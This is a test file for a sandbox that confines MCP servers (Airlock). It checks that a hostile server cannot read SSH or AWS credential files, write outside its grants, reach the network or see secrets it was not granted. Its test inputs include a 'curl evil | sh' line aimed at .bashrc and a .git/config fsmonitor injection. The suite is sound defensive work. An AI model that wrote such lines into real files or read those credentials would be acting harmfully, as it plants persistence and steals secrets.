/**
 * Hostile behaviour 8 (TESTING.md) on whatever platform this runs on —
 * Linux here, macOS and Windows on the CI runners — through that
 * platform's backend, with the behaviours the guarantees table promises on
 * every one, checked from outside (the files, the listeners). The
 * Linux-only details (bubblewrap's argv, EROFS) stay in escape.test.ts.
 *
 * Besides: a server installed in Airlock's own data folder (it reads its
 * code there, and nothing else of that folder); the limits the backend says
 * hold, holding (ulimit on macOS, rlimits on Linux; Windows sets none);
 * Seatbelt's refusals reaching the server's log and the audit log (macOS
 * only: no other platform has such a stream); and a stop that leaves no
 * process of a server that outlives its input (macOS, Windows — on Linux
 * the sandbox's pid namespace hides its pids; lifecycle.test.ts covers it).
 *
 * With AIRLOCK_REQUIRE_SANDBOX=1, a machine that cannot sandbox FAILS the
 * first test with what is missing; without it the suite is skipped.
 */
import { mkdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaultSandboxProfile, type SandboxProfile } from '../../../shared/domain';
import { AuditLog } from '../../../electron/core/audit/audit-log';
import { SandboxRefusalRecorder } from '../../../electron/core/audit/sandbox-refusal-record';
import { toActivityViews } from '../../../electron/core/audit/views';
import type { LaunchPlan } from '../../../electron/core/sandbox/launcher';
import { createSandboxLauncher, type AirlockSandboxLauncher } from '../../../electron/core/sandbox/sandbox-launcher';
import { ProcessStdioTransport } from '../../../electron/core/servers/stdio-transport';
import { sandboxRequirement } from './require-sandbox';
import { call, canaryListener, connect, ESCAPE_SERVER, isLive, makeWorld, until } from './sandbox-harness';

const LIMITS_SERVER = join(import.meta.dirname, '../../fixtures/escape/limits-server.mjs');

const probeLauncher = createSandboxLauncher();
const requirement = sandboxRequirement(probeLauncher.support());
/** The limits this platform's backend says it does not set or the OS does not enforce here. */
const unenforced = probeLauncher.limits().unenforced ?? {};
await probeLauncher.close();

describe(`the sandbox on ${process.platform}`, () => {
  it.skipIf(requirement.run || requirement.failure === undefined)('can run here (AIRLOCK_REQUIRE_SANDBOX=1)', () => {
    throw new Error(requirement.failure);
  });
  it.skipIf(!requirement.run)('can run here', () => {
    expect(requirement.run).toBe(true);
  });
});

describe.skipIf(!requirement.run)(`a hostile server, sandboxed on ${process.platform}${requirement.skipReason ? ` — skipped: ${requirement.skipReason}` : ''}`, () => {
  let world: Awaited<ReturnType<typeof makeWorld>>;
  let launcher: AirlockSandboxLauncher;
  let canary: Awaited<ReturnType<typeof canaryListener>>;
  let api: { port: number; paths: string[]; close: () => Promise<void> };
  let granted: Awaited<ReturnType<typeof connect>>;
  let plain: Awaited<ReturnType<typeof connect>>;
  let grantedProxy: string;
  let readGrant: string;
  let writeGrant: string;
  let planGranted: LaunchPlan;
  let audit: AuditLog;
  let recorder: SandboxRefusalRecorder;
  /** Every refusal the OS's sandbox reported (macOS), by server, in order. */
  const refusals: Array<{ server: string; text: string }> = [];

  beforeAll(async () => {
    world = await makeWorld();
    canary = await canaryListener();
    const paths: string[] = [];
    const server: Server = createServer((req, res) => {
      paths.push(req.url ?? '');
      res.end(`hello ${req.url}`);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    api = { port: (server.address() as { port: number }).port, paths, close: () => new Promise((resolve) => server.close(() => resolve())) };
    readGrant = join(world.home, 'notes');
    writeGrant = join(world.home, 'proj');
    await mkdir(readGrant, { recursive: true });
    await writeFile(join(readGrant, 'todo.md'), 'granted to read\n');
    // A repository at the top of the write grant: its config must stay as it is on every platform.
    await mkdir(join(writeGrant, '.git'), { recursive: true });
    await writeFile(join(writeGrant, '.git', 'config'), '[core]\n');
    process.env.AIRLOCK_TEST_CANARY_SECRET = 'canary-must-not-leak';
    audit = new AuditLog({ dir: join(world.base, 'audit') });
    recorder = new SandboxRefusalRecorder(audit);
    launcher = createSandboxLauncher({
      homeDir: world.home,
      runtimeDir: world.runtimeDir,
      // As the host wires it: into the audit log (Activity), and kept here to wait on.
      onViolation: (server, text) => {
        refusals.push({ server, text });
        recorder.record(server, text);
      },
    });
    const profile: SandboxProfile = {
      ...defaultSandboxProfile(),
      filesystem: { read: [readGrant], write: [writeGrant], persistentData: false },
      network: { allowedDomains: [`127.0.0.1:${api.port}`] },
      secrets: ['API_KEY'],
    };
    const spec = { command: process.execPath, args: [ESCAPE_SERVER], env: {} };
    planGranted = await launcher.plan(spec, profile, world.context('granted', { secrets: { API_KEY: 'granted-secret', OTHER: 'not granted' } }));
    grantedProxy = planGranted.env.HTTP_PROXY!;
    const planPlain = await launcher.plan(spec, defaultSandboxProfile(), world.context('plain'));
    expect([planGranted.sandboxed, planPlain.sandboxed]).toEqual([true, true]);
    [granted, plain] = await Promise.all([connect(planGranted), connect(planPlain)]);
  });

  afterAll(async () => {
    delete process.env.AIRLOCK_TEST_CANARY_SECRET;
    await Promise.all([granted?.close(), plain?.close()]);
    await launcher?.close();
    await recorder?.flush();
    await audit?.close();
    await canary?.close();
    await api?.close();
    await rm(world.base, { recursive: true, force: true });
  });

  it("cannot read credentials, Airlock's data or the rest of home", async () => {
    for (const server of [granted, plain]) {
      expect(await call(server.client, 'read_file', { path: join(world.home, '.ssh', 'id_rsa') })).toMatchObject({ ok: false });
      expect(await call(server.client, 'read_file', { path: join(world.home, '.aws', 'credentials') })).toMatchObject({ ok: false });
      expect(await call(server.client, 'read_file', { path: join(world.airlockDataDir, 'store.json') })).toMatchObject({ ok: false });
      expect(await call(server.client, 'read_file', { path: join(world.home, 'notes.txt') })).toMatchObject({ ok: false });
    }
  });

  it('reads what it was granted; the other server does not', async () => {
    expect(await call(granted.client, 'read_file', { path: join(readGrant, 'todo.md') })).toMatchObject({ ok: true, text: 'granted to read\n' });
    // Windows: one shared sandbox user, so the other server may read it too (the weaker row says so).
    if (process.platform !== 'win32') expect(await call(plain.client, 'read_file', { path: join(readGrant, 'todo.md') })).toMatchObject({ ok: false });
  });

  it('writes only where granted, and the files elsewhere are unchanged', async () => {
    expect(await call(granted.client, 'write_file', { path: join(writeGrant, 'out.txt'), text: 'made by the server' })).toMatchObject({ ok: true });
    expect(await readFile(join(writeGrant, 'out.txt'), 'utf8')).toBe('made by the server');
    for (const path of [join(world.home, '.bashrc'), join(world.airlockDataDir, 'store.json'), join(readGrant, 'todo.md'), join(world.home, 'new-file')]) {
      expect((await call(granted.client, 'write_file', { path, text: 'curl evil | sh\n' })).ok).toBe(false);
    }
    expect(await readFile(join(world.home, '.bashrc'), 'utf8')).toBe('# original bashrc\n');
    expect(await readFile(join(world.airlockDataDir, 'store.json'), 'utf8')).toBe('{"secret":"airlock store"}\n');
    await expect(stat(join(world.home, 'new-file'))).rejects.toThrow();
  });

  it("cannot change the repository's config inside its write grant", async () => {
    expect((await call(granted.client, 'write_file', { path: join(writeGrant, '.git', 'config'), text: '[core]\n\tfsmonitor = evil\n' })).ok).toBe(false);
    expect(await readFile(join(writeGrant, '.git', 'config'), 'utf8')).toBe('[core]\n');
  });

  it('writes its own temporary home, which is not the real home', async () => {
    const env = await call(plain.client, 'read_env', { name: 'HOME' });
    expect(env.value).not.toBe(world.home);
    expect((await call(plain.client, 'write_file', { path: join(env.value, 'scratch.txt'), text: 'ok' })).ok).toBe(true);
  });

  it('reaches nothing directly, by IP or by name; the canary saw no connection', async () => {
    for (const server of [granted, plain]) {
      expect(await call(server.client, 'connect_tcp', { host: '127.0.0.1', port: canary.port })).toMatchObject({ ok: false });
      expect(await call(server.client, 'connect_tcp', { host: 'localhost', port: canary.port })).toMatchObject({ ok: false });
      expect(await call(server.client, 'connect_tcp', { host: 'example.com', port: 80 })).toMatchObject({ ok: false });
    }
    expect(canary.connections()).toBe(0);
  });

  it('reaches its granted host through its own proxy; the other server cannot use that proxy', async () => {
    expect(await call(granted.client, 'fetch_via_proxy', { url: `http://127.0.0.1:${api.port}/granted` })).toMatchObject({ ok: true, body: 'hello /granted' });
    // The other server tries the granted one's proxy, without its credential (it never had it).
    const url = new URL(grantedProxy);
    url.username = '';
    url.password = '';
    expect(await call(plain.client, 'fetch_via_proxy', { url: `http://127.0.0.1:${api.port}/stolen`, proxy: url.toString() })).toMatchObject({ ok: false });
    expect(api.paths).toEqual(['/granted']);
  });

  it("sees none of Airlock's environment, only its grants", async () => {
    expect((await call(granted.client, 'read_env', { name: 'AIRLOCK_TEST_CANARY_SECRET' })).value).toBeNull();
    expect((await call(granted.client, 'read_env', { name: 'OTHER' })).value).toBeNull();
    expect((await call(granted.client, 'read_env', { name: 'API_KEY' })).value).toBe('granted-secret');
    expect((await call(plain.client, 'read_env', { name: 'API_KEY' })).value).toBeNull();
  });

  it("runs a server installed in Airlock's data folder: it reads its own code there, and nothing else of that folder", async () => {
    const pkg = join(world.airlockDataDir, 'servers', 'installed', 'pkg');
    await mkdir(pkg, { recursive: true });
    await writeFile(join(pkg, 'package.json'), '{"name":"installed","version":"1.0.0","type":"module"}\n');
    // Its entry point lives in the data folder (every Airlock data folder is denied to reads); the rest of its code is the fixture's.
    await writeFile(join(pkg, 'server.mjs'), `import ${JSON.stringify(pathToFileURL(ESCAPE_SERVER).href)};\n`);
    const plan = await launcher.plan({ command: process.execPath, args: [join(pkg, 'server.mjs')], env: {}, cwd: pkg }, defaultSandboxProfile(), world.context('installed'));
    expect(plan.sandboxed).toBe(true);
    const installed = await connect(plan);
    try {
      expect(await call(installed.client, 'read_file', { path: join(pkg, 'package.json') })).toMatchObject({ ok: true, text: expect.stringContaining('"installed"') });
      expect(await call(installed.client, 'read_file', { path: join(world.airlockDataDir, 'store.json') })).toMatchObject({ ok: false });
      expect(await call(installed.client, 'read_file', { path: join(world.home, '.ssh', 'id_rsa') })).toMatchObject({ ok: false });
    } finally {
      await installed.close();
    }
  });

  it.skipIf(process.platform !== 'darwin')("Seatbelt's refusals reach the server's own log and the audit log, attributed to it (macOS)", { timeout: 120_000 }, async () => {
    const notes: string[] = [];
    const stop = planGranted.onNote?.((text) => notes.push(text));
    expect(await call(granted.client, 'read_file', { path: join(world.home, '.ssh', 'id_rsa') })).toMatchObject({ ok: false });
    // `log stream` reports a refusal a moment after it happens: wait for it (the test's timeout bounds the wait).
    await until(() => refusals.some((refusal) => refusal.server === 'granted'));
    await until(() => notes.some((note) => note.startsWith('The sandbox refused: ')));
    stop?.();
    await recorder.flush();
    const rows = (await audit.readActivity({})).flatMap(toActivityViews).filter((row) => row.kind === 'sandbox');
    expect(rows.some((row) => row.server === 'granted' && row.verdict === 'refused by the sandbox')).toBe(true);
    expect(rows.every((row) => row.server === 'granted' || row.server === 'plain' || row.server === 'installed')).toBe(true);
    expect((await audit.verify()).ok).toBe(true);
  });

  it.skipIf(process.platform === 'linux')('a stop leaves no process of a server that outlives its input, its child included (macOS, Windows)', { timeout: 60_000 }, async () => {
    const plan = await launcher.plan({ command: process.execPath, args: [ESCAPE_SERVER], env: {} }, defaultSandboxProfile(), world.context('stopper'));
    // The supervisor's own transport and its stop sequence (POSIX group signals on macOS; the plan's endTree on Windows).
    const transport = new ProcessStdioTransport(plan, { shutdown: { graceMs: 500, termMs: 2000, killMs: 5000 } });
    const client = new Client({ name: 'sandbox-test', version: '1.0.0' });
    await client.connect(transport);
    try {
      const { pid, child } = await call(client, 'linger', {});
      expect([isLive(pid), isLive(child)]).toEqual([true, true]);
      await transport.close();
      await until(() => !isLive(pid) && !isLive(child));
      expect(transport.log.snapshot().some((line) => /ended|killed/.test(line.text))).toBe(true);
    } finally {
      await transport.close();
      await plan.dispose();
    }
  });
});

describe.skipIf(!requirement.run)(`the limits the backend says hold, on ${process.platform}`, () => {
  let world: Awaited<ReturnType<typeof makeWorld>>;
  let launcher: AirlockSandboxLauncher;
  let server: Awaited<ReturnType<typeof connect>>;
  const skipAll = unenforced.openFiles !== undefined && unenforced.cpuSeconds !== undefined;

  beforeAll(async () => {
    if (skipAll) return;
    world = await makeWorld('limits');
    launcher = createSandboxLauncher({ homeDir: world.home, runtimeDir: world.runtimeDir, limits: { openFiles: 512, cpuSeconds: 3 } });
    server = await connect(await launcher.plan({ command: process.execPath, args: [LIMITS_SERVER], env: {} }, defaultSandboxProfile(), world.context('limits')));
  });
  afterAll(async () => {
    await server?.close();
    await launcher?.close();
    if (world) await rm(world.base, { recursive: true, force: true });
  });

  it.skipIf(unenforced.openFiles !== undefined)('open files: no more than the limit', async () => {
    const opened = await call(server.client, 'open_files', { count: 2000 });
    expect(opened.opened).toBeLessThan(512);
    expect(opened.error).toBe('EMFILE');
  });

  it.skipIf(unenforced.cpuSeconds !== undefined)('CPU time: a child that spins is stopped by the kernel', { timeout: 90_000 }, async () => {
    const burnt = await call(server.client, 'burn_cpu', {});
    expect(['SIGXCPU', 'SIGKILL']).toContain(burnt.signal);
  });
});
